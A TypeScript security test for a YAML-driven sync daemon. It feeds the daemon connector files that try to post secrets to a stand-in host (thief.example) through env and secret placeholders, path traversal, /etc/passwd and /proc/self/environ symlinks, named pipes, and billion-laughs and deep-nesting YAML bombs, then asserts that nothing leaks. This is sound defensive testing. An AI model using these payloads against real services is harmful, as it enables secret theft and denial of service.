/** Someone who may commit YAML tries to learn what the daemon knows, or to wear it out. */

import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { openSite, yaml } from '../support/site.ts';

const LOOT = 'lootQ4z';

const stealing = (value: string): string =>
  `name: Thief\nmethod: post\nurl: https://thief.example/\nbody:\n  - name: loot\n    value: '${value}'\n`;

/** What a committer might try, by file name. */
const THEFTS: Readonly<Record<string, string>> = {
  'own-key.yaml': stealing('${env:DATABAR_API_KEY}'),
  'other-variable.yaml': stealing('${env:OTHER_SECRET}'),
  'prefix-trick.yaml': stealing('${env:CONNECTOR_/../OTHER_SECRET}'),
  'nested.yaml': stealing('${env:CONNECTOR_${env:OTHER_SECRET}}'),
  'key-file.yaml': stealing('${secret:../key}'),
  'absolute.yaml': stealing('${secret:/etc/passwd}'),
  'link-in-secrets.yaml': stealing('${secret:link}'),
  'pipe-in-secrets.yaml': stealing('${secret:pipe}'),
  'directory-in-secrets.yaml': stealing('${secret:directory}'),
  'nested-secret.yaml': stealing('${secret:directory/key}'),
  'own-settings.yaml': stealing('${env:DATABAR_SYNC_TRIGGER_TOKEN}'),
  'escaped.yaml': stealing('$$${env:OTHER_SECRET}'),
  'hidden-secret.yaml': stealing('${secret:.hidden}'),
  'indirect.yaml': stealing('${env:CONNECTOR_INDIRECT}'),
};

/** Each under a name of its own, or they would be refused for their names. */
const NAMED_THEFTS = Object.fromEntries(
  Object.entries(THEFTS).map(([file, text]) => [file, text.replace('Thief', file)]),
);
/** Nothing is wrong with these; they send texts and no secrets. */
const HARMLESS: ReadonlySet<string> = new Set(['escaped.yaml', 'indirect.yaml']);

/** What might wear it out. */
const BOMBS: Readonly<Record<string, string>> = {
  'laughs.yaml': `a: &a [x,x,x,x,x,x,x,x,x]\n${['b', 'c', 'd', 'e', 'f', 'g', 'h']
    .map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${'abcdefgh'[index]}`).join(',')}]`)
    .join('\n')}\nname: *h\n`,
  'deep.yaml': `name: ${'['.repeat(100_000)}`,
  'keys.yaml': Array.from({ length: 60_000 }, (_, index) => `k${index}: 1`).join('\n'),
  'documents.yaml': '---\nname: x\n'.repeat(50_000),
  'large.yaml': `name: ${'x'.repeat(1_100_000)}\n`,
};

describe('a hostile repository', () => {
  test('gets nothing out, stops nobody else, and costs bounded time', async () => {
    const site = await openSite({ files: { 'good.yaml': yaml('Good'), ...NAMED_THEFTS, ...BOMBS } });
    const secrets = join(site.directory, 'secrets');
    mkdirSync(secrets);
    writeFileSync(join(site.directory, 'key'), `${LOOT}Key`);
    writeFileSync(join(site.directory, 'outside.yaml'), stealing(`${LOOT}File`));
    writeFileSync(join(secrets, '.hidden'), `${LOOT}Hidden`);
    symlinkSync('../key', join(secrets, 'link'));
    symlinkSync('../outside.yaml', join(site.directory, 'connectors', 'linked.yaml'));
    symlinkSync('/etc/passwd', join(site.directory, 'connectors', 'passwd.yaml'));
    symlinkSync('/dev/zero', join(site.directory, 'connectors', 'zero.yaml'));
    symlinkSync('/proc/self/environ', join(site.directory, 'connectors', 'environ.yaml'));
    symlinkSync('loop.yaml', join(site.directory, 'connectors', 'loop.yaml'));
    mkdirSync(join(site.directory, 'connectors', 'directory.yaml'));
    mkdirSync(join(secrets, 'directory'));
    execFileSync('mkfifo', [join(secrets, 'pipe')]);
    symlinkSync('..', join(site.directory, 'connectors', 'up'));
    execFileSync('mkfifo', [join(site.directory, 'connectors', 'pipe.yaml')]);
    delete site.environment['DATABAR_API_KEY'];
    Object.assign(site.environment, {
      DATABAR_API_KEY_FILE: join(site.directory, 'key'),
      DATABAR_SYNC_SECRETS_DIR: secrets,
      OTHER_SECRET: `${LOOT}Other`,
      DATABAR_SYNC_TRIGGER_TOKEN: `${LOOT}Trigger`,
      CONNECTOR_INDIRECT: '${env:OTHER_SECRET}',
    });

    const result = await site.run('sync', '--output', 'json');
    expect(result.code).toBe(1);
    // What a value holds is sent as it is, never expanded again; and an escape is no placeholder.
    const sent = new Map(site.sandbox.connectors().map(({ name, body }) => [name, body[0]?.value]));
    expect(Object.fromEntries(sent)).toEqual({
      Good: undefined,
      'escaped.yaml': '$${env:OTHER_SECRET}',
      'indirect.yaml': '${env:OTHER_SECRET}',
    });
    expect(JSON.stringify(site.sandbox.connectors())).not.toContain(LOOT);
    expect(result.stdout + result.stderr).not.toContain(LOOT);
    expect(result.stdout + result.stderr).not.toContain('root:');

    const { summary, results } = JSON.parse(result.stdout) as {
      summary: Record<string, number>;
      results: { key: string; outcome: string }[];
    };
    expect(summary).toMatchObject({ applied: 3, failed: 0 });
    const held = results.filter(({ outcome }) => outcome === 'held').map(({ key }) => key);
    const bad = [
      ...Object.keys(THEFTS),
      ...Object.keys(BOMBS),
      'linked.yaml',
      'passwd.yaml',
      'zero.yaml',
      'pipe.yaml',
      'environ.yaml',
      'loop.yaml',
    ]
      .filter((name) => !HARMLESS.has(name))
      .map((name) => name.replace(/\.yaml$/u, ''));
    expect(held).toEqual(expect.arrayContaining(bad));
  }, 60_000);
});
